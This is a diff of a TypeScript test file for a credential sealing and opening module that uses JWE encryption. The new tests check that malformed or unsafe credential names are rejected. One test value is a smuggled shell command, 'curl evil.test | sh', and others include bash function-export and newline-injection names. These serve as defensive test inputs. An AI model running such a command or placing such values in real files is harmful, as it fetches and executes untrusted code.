@@ -1,17 +1,10 @@
-import { compactDecrypt, CompactEncrypt, decodeProtectedHeader, importJWK } from 'jose';
+import { compactDecrypt, decodeProtectedHeader } from 'jose';
 import { generateRecipient } from '../../../sealing/recipient';
-import type { RecipientKeyPair } from '../../../sealing/recipient';
 import { open, seal } from '../../../sealing/seal';
+import { forge } from '../../support/forge';
 
 const lease = 'a'.repeat(24);
 const header = { alg: 'ECDH-ES', enc: 'A256GCM', typ: 'leasehold-credential', lease, crit: ['lease'] };
-
-async function forge(pair: RecipientKeyPair, text: string, change: object = {}): Promise<string> {
-  const key = await importJWK({ ...pair.publicJwk }, 'ECDH-ES');
-  return new CompactEncrypt(Buffer.from(text))
-    .setProtectedHeader({ ...header, ...change })
-    .encrypt(key, { crit: { lease: true } });
-}
 
 test('an opener that does not know the lease in the header must refuse', async () => {
   const pair = await generateRecipient();
@@ -22,9 +15,9 @@ test('an opener that does not know the lease in the header must refuse', async (
 
 test('only the one algorithm, cipher and type are opened', async () => {
   const pair = await generateRecipient();
-  expect(await open(await forge(pair, '{"KEY":"x"}'), pair.privateKey, lease)).toEqual({ KEY: 'x' });
+  expect(await open(await forge(pair.publicJwk, lease, '{"KEY":"x"}'), pair.privateKey, lease)).toEqual({ KEY: 'x' });
   for (const change of [{ alg: 'ECDH-ES+A256KW' }, { enc: 'A128GCM' }, { typ: 'JWT' }, { typ: undefined }]) {
-    const sealed = await forge(pair, '{"KEY":"x"}', change);
+    const sealed = await forge(pair.publicJwk, lease, '{"KEY":"x"}', change);
     await expect(open(sealed, pair.privateKey, lease)).rejects.toMatchObject({ code: 'NotOpened' });
   }
 });
@@ -33,11 +26,23 @@ test.each(['', 'canary', '[]', '["canary"]', 'null', '{"KEY":1}', '{"KEY":{"cana
   'content %j is no credential, and is not repeated',
   async (text) => {
     const pair = await generateRecipient();
-    const opened = open(await forge(pair, text), pair.privateKey, lease);
+    const opened = open(await forge(pair.publicJwk, lease, text), pair.privateKey, lease);
     await expect(opened).rejects.toMatchObject({
       code: 'NotOpened',
       message: expect.not.stringContaining('canary') as string,
     });
+  },
+);
+
+test.each(['X=1; curl evil.test | sh #', 'KEY\nPATH', 'key', '1KEY', '_KEY', 'KEY-ID', 'BASH_FUNC_ls%%', 'ÄKEY', ''])(
+  'a credential with the name %j is neither sealed nor opened: it could be a command where it is written down',
+  async (name) => {
+    const pair = await generateRecipient();
+    const credential = { KEY: 'canary', [name]: 'canary' };
+    const message = expect.not.stringMatching(/canary|curl/) as string;
+    await expect(seal(credential, pair.publicJwk, lease)).rejects.toMatchObject({ code: 'InvalidCredential', message });
+    const forged = await forge(pair.publicJwk, lease, JSON.stringify(credential));
+    await expect(open(forged, pair.privateKey, lease)).rejects.toMatchObject({ code: 'NotOpened', message });
   },
 );
 
